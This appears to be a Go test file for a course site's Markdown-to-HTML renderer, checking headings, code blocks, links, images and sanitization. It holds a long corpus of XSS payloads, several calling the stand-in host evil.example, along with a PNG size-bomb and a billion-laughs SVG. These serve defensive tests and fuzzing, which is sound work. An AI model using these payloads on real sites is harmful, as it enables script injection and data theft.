package render

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/png"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"golang.org/x/net/html"

	"kept/internal/course"
)

func page(markdown string) Page {
	return New(English).Page(Home{File: "a.md"}, []course.Block{{Shape: course.Prose, Text: markdown, Line: 10}})
}

func TestMarkdownBecomesThePagesMarkup(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"paragraph", "Hello *you*", "<p>Hello <em>you</em></p>"},
		{"heading gets an anchor", "## A name is a tag", `<h2 id="h-a-name-is-a-tag">A name is a tag<a class="anchor" href="#h-a-name-is-a-tag" aria-hidden="true" tabindex="-1"></a></h2>`},
		{"first level is the page's own", "# Big", `<h2 id="h-big">Big<a `},
		{"heading without letters", "## 😀", `<h2 id="h-part">😀<a `},
		{"two headings of one name", "## A\n\n## A", `id="h-a-2"`},
		{"anchor link", "## A\n\n[up](#a)", `<a href="#h-a">up</a>`},
		{"code is coloured", "```js\nlet a = 1; // x\n```", `<span class="k">let</span> a = <span class="n">1</span>; <span class="c">// x</span></code>`},
		{"code has a button", "```js\n1\n```", `<div class="code"><button class="link noprint" type="button" data-copy="">Copy</button><pre tabindex="0" aria-label="Code: JavaScript"><code>`},
		{"code that runs", "```js run\n1\n```", `data-run="js"`},
		{"code with a title", "```js \"two names\"\n1\n```", `aria-label="Code: two names"`},
		{"code of unknown language", "```nonsense\na < b\n```", "<code>a &lt; b</code>"},
		{"code keeps blank lines at its start", "```\n\na\n```", "<code>\na</code>"},
		{"lines to look at", "```js {2} \"a\"\n1\n2\n```", `<code><span class="n">1</span>
<span class="hl"><span class="n">2</span></span></code>`},
		{"indented code", "    a < b", "<code>a &lt; b</code>"},
		{"table scrolls", "|a|\n|-|\n|b|", `<div class="scroll" tabindex="0" role="region" aria-label="Table"><table>`},
		{"note", "> **Good to know.** It helps.", `<aside class="note" role="note" aria-label="Good to know">`},
		{"quotation stays", "> She said **no**", "<blockquote>"},
		{"picture with caption", `![what](a.png "Why")`, `<figure><img src="a.png" loading="lazy" decoding="async" alt="what"/><figcaption>Why</figcaption></figure>`},
		{"caption is Markdown", "![what](a.png \"After `b`\")", "<figcaption>After <code>b</code></figcaption>"},
		{"picture in a line", `see ![what](a.png) here`, `<p>see <img src="a.png"`},
		{"ticks cannot be clicked", "- [x] done", `<input checked="" type="checkbox" disabled=""/>`},
		{"footnote", "a[^1]\n\n[^1]: b", `href="#h-fn:1"`},
		{"outside link", "[a](https://example.org/x)", `<a href="https://example.org/x" rel="noreferrer">`},
		{"author's own element", "press <kbd>Enter</kbd>", "<kbd>Enter</kbd>"},
		{"right to left", `<p dir="rtl" lang="ar">مرحبا</p>`, `<p dir="rtl" lang="ar">`},
		{"formula", `<math display="block"><msup><mi>x</mi><mn>2</mn></msup></math>`, "<msup><mi>x</mi><mn>2</mn></msup>"},
		{"unclosed elements close", "<b>a", "<b>a</b>"},
		{"stray ends go", "</div></main>a", "a"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := string(page(c.in).HTML); !strings.Contains(got, c.want) {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

// corpus are ways to bring a script, a frame or a request to another host
// into a page.
var corpus = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" ONERROR="alert(1)">`, `<img/src=x/onerror=alert(1)>`, `<img src=//evil.example/p.png>`,
	`<img src="https://evil.example/p.png" alt="dot">`, `![dot](https://evil.example/p.png)`, `![dot](//evil.example/p.png)`,
	`![dot](///evil.example/p.png)`, `![dot](/\\evil.example/p.png)`, `<img src="\\evil.example/p.png">`, `<img src="/	/evil.example/p.png">`,
	`<img srcset="https://evil.example/p.png 2x">`, `<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`, `[x](java&#115;cript:alert(1))`, "[x](java\tscript:alert(1))", `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href=" &#14;  javascript:alert(1)">x</a>`, `[x](vbscript:x)`, `[x](data:text/html,<script>alert(1)</script>)`, `<javascript:alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x">`, `<video src="https://evil.example/v.mp4" autoplay></video>`,
	`<audio src="https://evil.example/v.mp3"></audio>`, `<video><source src="https://evil.example/v.mp4" onerror="alert(1)"></video>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<math href="javascript:alert(1)"><mi>x</mi></math>`, `<style>@import url(https://evil.example/x.css);</style>`,
	`<p style="background:url(https://evil.example/p.png)">x</p>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
	`<form action="https://evil.example/"><input name=password><button>go</button></form>`, `<button formaction="javascript:alert(1)" class="link noprint">x</button>`,
	`<details open ontoggle=alert(1)>x</details>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action=javascript:alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<textarea></textarea><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><script>alert(1)</script>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`,
	`<a href="x" id="main" name="cookie" class="btn main" target=_top>x</a>`, `<p id="tests" class="alert">x</p>`, `<div data-run="js&quot; onclick=alert(1)">`,
	"```js\" onmouseover=\"alert(1)\nx\n```", "```<script>alert(1)</script>\nx\n```", "```js\n</code></pre><script>alert(1)</script>\n```", "`<script>`",
	`<img alt="a&quot; onerror=&quot;alert(1)" src=x>`, `![a" onerror="alert(1)](x)`, `![a](x "b\" onerror=\"alert(1)")`, `## <img src=x onerror=alert(1)>`,
	`<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>`, `<bgsound src="https://evil.example/">`, `<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>`,
	`<a href="https://example.org" ping="https://evil.example/">x</a>`, `<q cite="javascript:alert(1)">x</q>`, `<select><option><script>alert(1)</script>`, `<svg><use href="https://evil.example/#x"/></svg>`,
	`<a href="//evil.example">x</a>`, `> **a" onclick="alert(1).** b`, "|<script>alert(1)</script>|\n|-|\n|b|", `<dialog open>x</dialog>`, `<portal src="https://evil.example/">`,
}

var scheme = regexp.MustCompile(`^[a-z][a-z0-9+.-]*:`)

// harmless looks at what a browser would make of the page.
func harmless(t *testing.T, source string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader("<!doctype html><body><main>" + source + "</main>"))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "style", "iframe", "object", "embed", "video", "audio", "source", "svg", "link", "meta", "base", "form",
			"textarea", "select", "template", "noscript", "dialog", "portal", "picture", "title", "plaintext", "xmp"}, n.Data) {
			t.Errorf("<%s> stands in %s", n.Data, source)
		}
		for _, a := range n.Attr {
			harmlessAttr(t, n, a, source)
		}
	}
}

func harmlessAttr(t *testing.T, n *html.Node, a html.Attribute, source string) {
	t.Helper()
	value := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcset", a.Key == "formaction", a.Key == "target", a.Key == "ping", a.Key == "background", a.Key == "name":
		t.Errorf("%s stands on <%s> in %s", a.Key, n.Data, source)
	case a.Key == "id" && !strings.HasPrefix(a.Val, "h-"):
		t.Errorf("the id %q could be taken for the page's own in %s", a.Val, source)
	case a.Key == "src" && (scheme.MatchString(value) || strings.HasPrefix(value, "//") || strings.ContainsAny(value, "\\\t\n")):
		t.Errorf("another host is asked in %s", source)
	case a.Key == "href" && scheme.MatchString(value) && !slices.ContainsFunc([]string{"http:", "https:", "mailto:", "#"}, func(p string) bool { return strings.HasPrefix(value, p) }):
		t.Errorf("the address %q stands in %s", a.Val, source)
	}
}

func TestHostileTextIsHarmless(t *testing.T) {
	r := New(English)
	for _, attack := range corpus {
		for _, shape := range []course.Shape{course.Prose, course.HTML} {
			harmless(t, string(r.Page(Home{}, []course.Block{{Shape: shape, Text: attack}}).HTML))
		}
		harmless(t, string(r.Inline(attack)))
		harmless(t, string(page("- a\n\n  "+attack+"\n\n> "+attack).HTML))
		boxed := []course.Block{{Shape: course.Box, Title: attack, Style: attack, Blocks: []course.Block{
			{Shape: course.Figure, Address: attack, Alt: attack, Text: attack}, {Shape: course.Tab, Title: attack, Text: attack},
			{Shape: course.Anchor, Address: attack}, {Shape: course.Code, Lang: attack, Title: attack, Text: attack}}}}
		harmless(t, string(r.Page(Home{}, boxed).HTML))
	}
}

// The check above must see an attack where there is one.
func TestTheCheckSeesAttacks(t *testing.T) {
	for _, bad := range []string{`<script>`, `<p onclick=x>`, `<a href="javascript:x">`, `<img src="https://evil.example/">`, `<p id=main>`} {
		probe := &testing.T{}
		harmless(probe, bad)
		if !probe.Failed() {
			t.Errorf("%s is not seen", bad)
		}
	}
}

func TestWordsOfHostileTextStay(t *testing.T) {
	got := string(page(`before <form><label>inside</label></form> [click](javascript:x) after`).HTML)
	for _, word := range []string{"before", "inside", "click", "after"} {
		if !strings.Contains(got, word) {
			t.Errorf("%q is lost: %s", word, got)
		}
	}
}

func TestDeepNestingIsShownPlainly(t *testing.T) {
	for name, text := range map[string]string{
		"quotes":       strings.Repeat(">", 50_000) + " deep",
		"lists":        strings.Repeat("- ", 50_000) + "deep",
		"numbers":      strings.Repeat("1. ", 50_000) + "deep",
		"indent":       strings.Repeat(" ", 5_000) + "deep",
		"brackets":     strings.Repeat("[", 50_000) + "deep",
		"pictures":     strings.Repeat("![", 50_000) + "deep",
		"stars":        strings.Repeat("*a **b ", 50_000) + "deep",
		"elements":     strings.Repeat("<b>", 50_000) + "deep",
		"few elements": strings.Repeat("<div>\n\n", 600) + "deep",
		"backticks":    strings.Repeat("` `` ", 50_000) + "deep",
		"angles":       strings.Repeat("<a ", 50_000) + "deep",
		"links":        strings.Repeat("[a](", 50_000) + "deep",
		"stairs":       stairs(3000),
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			got := page(text)
			if !strings.Contains(string(got.HTML), "deep") {
				t.Error("the word is lost")
			}
			if len(got.Warnings) == 0 {
				t.Error("there is no warning")
			}
			if took := time.Since(start); took > time.Minute {
				t.Errorf("it took %s", took)
			}
		})
	}
}

func stairs(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", min(2*i, 1000)) + "- deep\n")
	}
	return b.String()
}

func TestManyDelimitersEndSoon(t *testing.T) {
	for _, unit := range []string{"[a](b", "*a_", "~~a", "<a", "![", "a*", "\\[", "&amp;", "http://a.", "|a", "[^1]", ": a\n", "<!--", "``` a\n", "[a]: b\n"} {
		start := time.Now()
		page(strings.Repeat(unit, 100_000/len(unit)))
		if took := time.Since(start); took > time.Minute {
			t.Errorf("%q took %s", unit, took)
		}
	}
}

func library(t *testing.T) (*course.Catalogue, *course.Course) {
	t.Helper()
	var picture bytes.Buffer
	if err := png.Encode(&picture, image.NewGray(image.Rect(0, 0, 30, 20))); err != nil {
		t.Fatal(err)
	}
	files := fstest.MapFS{
		"c/pic.png":    {Data: picture.Bytes()},
		"c/draw.svg":   {Data: []byte(`<?xml version="1.0"?><svg viewBox="0 0 372 170"/>`)},
		"c/bad.png":    {Data: []byte("no picture")},
		"c/bomb.png":   {Data: claims(picture.Bytes(), 60_000, 60_000)},
		"c/bomb.svg":   {Data: []byte(laughs)},
		"secret.png":   {Data: picture.Bytes()},
		"c/.git/a.png": {Data: picture.Bytes()},
	}
	lessons := []*course.Lesson{
		{ID: "one", Slug: "one", Versions: []*course.Version{{File: "c/one.md"}}},
		{ID: "two", Slug: "two", Versions: []*course.Version{{File: "c/two.md"}}}}
	c := &course.Course{ID: "c", Slug: "c", Dir: "c", Chapters: []*course.Chapter{{Lessons: lessons}}}
	lib := course.NewLibrary([]course.Loader{fixed{c}}, []course.Source{{Name: "s", Root: files}})
	if err := lib.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	return lib.Catalogue(), lib.Catalogue().Courses[0]
}

// An address inside a link that an author wrote as HTML becomes a link of its
// own, and the outer one has no words left.
func TestALinkInsideALinkIsReadOnce(t *testing.T) {
	catalogue, c := library(t)
	in := `<a href="https://example.org/x">https://example.org/x</a>`
	got := string(New(English).Page(lintHome(catalogue, c, "c/one.md"), []course.Block{{Shape: course.Prose, Text: "text " + in, Line: 10}}).HTML)
	if strings.Count(got, ">https://example.org/x<") != 1 || strings.Count(got, "href=") != 1 {
		t.Errorf("got %s", got)
	}
}

func TestAddressesAreFound(t *testing.T) {
	catalogue, c := library(t)
	home := lintHome(catalogue, c, "c/one.md")
	for _, x := range []struct{ in, want, warning string }{
		{"[a](two.md)", `href="/c/two"`, ""},
		{"[a](./two.md#part)", `href="/c/two#h-part"`, ""},
		{"[a](pic.png)", `href="/c/pic.png"`, ""},
		{"[a](nothing.md)", "<p>a</p>", "leads to nothing"},
		{"[a](../secret.png)", "<p>a</p>", "leads out of the course's folder"},
		{"[a](..%2fsecret.png)", "<p>a</p>", "leads out"},
		{"[a](.git/a.png)", "<p>a</p>", "leads to nothing"},
		{"[a](one.md)", `href="/c/one"`, ""},
		{"[](https://example.org/x)", `">https://example.org/x</a>`, ""},
		{"[a](#nowhere)", `href="#h-nowhere"`, `the link "#nowhere" leads to no heading`},
		{"![a](pic.png)", `<img loading="lazy" decoding="async" alt="a" src="/c/pic.png" width="30" height="20"/>`, ""},
		{"![a](draw.svg)", `width="372" height="170"`, ""},
		{"![a](bomb.png)", "<em>a</em>", "claims 60000 × 60000 pixels"},
		{"![a](bomb.svg)", `width="10" height="10"`, ""},
		{"![a](bad.png)", `src="/c/bad.png"`, "size of the picture"},
		{"![a fish](gone.png)", "<em>a fish</em>", `the picture "gone.png" is missing`},
		{"![a](../secret.png)", "<em>a</em>", "is missing"},
		{"![a](https://example.org/a.png)", `<a href="https://example.org/a.png" rel="noreferrer">a (Picture on example.org)</a>`, "another host"},
	} {
		got := New(English).Page(home, []course.Block{{Shape: course.Prose, Text: "text\n\n" + x.in, Line: 10}})
		if !strings.Contains(string(got.HTML), x.want) {
			t.Errorf("%s: got %s, want %s", x.in, got.HTML, x.want)
		}
		switch {
		case x.warning == "" && len(got.Warnings) > 0:
			t.Errorf("%s: unexpected warning %s", x.in, got.Warnings[0])
		case x.warning != "" && (len(got.Warnings) != 1 || !strings.Contains(got.Warnings[0].String(), x.warning) || !strings.HasPrefix(got.Warnings[0].String(), "c/one.md:12: ")):
			t.Errorf("%s: got warnings %v, want one at c/one.md:12 with %q", x.in, got.Warnings, x.warning)
		}
	}
}

func TestAnchorsAreUniqueOnOnePage(t *testing.T) {
	blocks := []course.Block{{Shape: course.Prose, Text: "## A"}}
	pages := New(English).Pages(Home{}, blocks, blocks)
	if !strings.Contains(string(pages[1].HTML), `id="h-a-2"`) {
		t.Errorf("got %s", pages[1].HTML)
	}
	want := []Heading{{ID: "h-a-2", Text: "A", Level: 2}}
	if !slices.Equal(pages[1].Contents, want) {
		t.Errorf("got %v, want %v", pages[1].Contents, want)
	}
}

func TestBoxesOpenAndClose(t *testing.T) {
	blocks := []course.Block{
		{Shape: course.Box, Style: "tip", Title: "Tip", Blocks: []course.Block{{Shape: course.Prose, Text: "inside"}}},
		{Shape: course.Fold, Title: "`x`?", Text: "hidden"},
		{Shape: course.Tabs, Style: "system", Blocks: []course.Block{{Shape: course.Tab, Title: "Linux", Text: "ls"}}},
		{Shape: course.Section, Title: "Part", Text: "body"},
		{Shape: course.Code, Lang: "py", Text: "x = 1"},
		{Shape: course.Fold, Style: "instructor", Title: "For you", Text: "a"}, {Shape: course.Fold, Style: "foot", Title: "b"},
		{Shape: course.Box, Style: "exercise", Title: "Do it", Text: "a"},
		{Shape: course.Figure, Style: "w60", Address: "a.png"}, {Shape: course.Figure, Style: "foot", Address: "a.png"},
		{Shape: course.Code, Lang: "py", Text: "a = 1\nb = \"\"\"c\nd\"\"\"", Style: "2, 7-9, x"},
	}
	got := string(New(English).Page(Home{}, blocks).HTML)
	for _, want := range []string{
		`<aside class="note tip" role="note" aria-label="Tip"><p><b>Tip</b></p><p>inside</p>`,
		`<details><summary><code>x</code>?</summary><p>hidden</p>`,
		`<div class="tabs-of" data-tabs="system"><section class="tab-of" data-tab="linux" aria-label="Linux">`,
		`<h2 id="h-part">Part<a `, `Code: Python`,
		`<details class="instructor"><summary>For you</summary>`, `<aside class="note exercise" role="note" aria-label="Do it">`,
		`<figure class="w60"><img`, "<figure><img",
		`<code>a = <span class="n">1</span>
<span class="hl">b = <span class="s">&#34;&#34;&#34;c
</span></span><span class="s">d&#34;&#34;&#34;</span></code>`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("want %s in %s", want, got)
		}
	}
}

func TestMinutesFollowWords(t *testing.T) {
	for words, want := range map[int]int{0: 1, 100: 1, 340: 2, 1700: 10} {
		if got := page(strings.Repeat("word ", words)).Minutes(); got != want {
			t.Errorf("%d words: got %d minutes, want %d", words, got, want)
		}
	}
}

func TestCacheKeepsItsBoundAndTheLatest(t *testing.T) {
	cache := NewCache[int](10, func(s string) int { return len(s) })
	made := 0
	get := func(key int) string { return cache.Get(key, func() string { made++; return "four" }) }
	get(1)
	get(2)
	get(1)
	get(3) // 12 bytes: 2 was not asked for longest
	made = 0
	if get(1); made != 0 {
		t.Error("the page asked for lately was forgotten")
	}
	if get(2); made != 1 {
		t.Error("the page not asked for was kept beyond the bound")
	}
	cache.Clear()
	if get(2); made != 2 {
		t.Error("a page outlived Clear")
	}
}

func FuzzPage(f *testing.F) {
	for _, attack := range corpus {
		f.Add(attack)
	}
	f.Add("## a\n\n- b\n  1. c\n\n> **d.** e\n\n```js run\nf\n```\n\n|a|b|\n|-|-|\n|c|d|\n\na[^1]\n\n[^1]: x\n")
	r := New(English)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4<<10 {
			return
		}
		harmless(t, string(r.Page(Home{}, []course.Block{{Shape: course.Prose, Text: text}, {Shape: course.HTML, Text: text}}).HTML))
	})
}

func BenchmarkPage(b *testing.B) {
	text := strings.Repeat("## A heading\n\nSome *text* with a [link](https://example.org) and `code`.\n\n```js\nlet a = 1;\n```\n\n", 40)
	r := New(English)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		r.Page(Home{}, []course.Block{{Shape: course.Prose, Text: text}})
	}
}

func TestALineOfTextHasNoParagraphAroundIt(t *testing.T) {
	if got := New(Labels{}).Inline("a *word* and `code`"); strings.Contains(string(got), "<p>") || !strings.Contains(string(got), "<em>word</em>") {
		t.Errorf("got %q", got)
	}
}

// A page of nothing but headings of one name took time that grew with the
// square of their number.
func TestManyAnchorsOfOneName(t *testing.T) {
	start := time.Now()
	got := page(strings.Repeat("## A\n\n", 20_000))
	if !strings.Contains(string(got.HTML), `id="h-a-20000"`) {
		t.Error("the last heading has not the last number")
	}
	if took := time.Since(start); took > time.Minute {
		t.Errorf("it took %s", took)
	}
}

func TestMarkedLinesAreBounded(t *testing.T) {
	if got := len(readLines("1-999999999,5,-3,x,9-2")); got > mostMarked {
		t.Errorf("%d lines are marked", got)
	}
}

// claims makes a small PNG file say that it is a very large picture.
func claims(small []byte, width, height uint32) []byte {
	head := bytes.Clone(small)
	binary.BigEndian.PutUint32(head[16:], width)
	binary.BigEndian.PutUint32(head[20:], height)
	binary.BigEndian.PutUint32(head[29:], crc32.ChecksumIEEE(head[12:29]))
	return head
}

// laughs is a drawing whose names stand for more and more of each other.
var laughs = `<!DOCTYPE svg [<!ENTITY a "ha">` + func() string {
	var b strings.Builder
	for c := 'b'; c < 'z'; c++ {
		fmt.Fprintf(&b, `<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	return b.String()
}() + `]><svg width="10" height="10"><text>&y;</text></svg>`
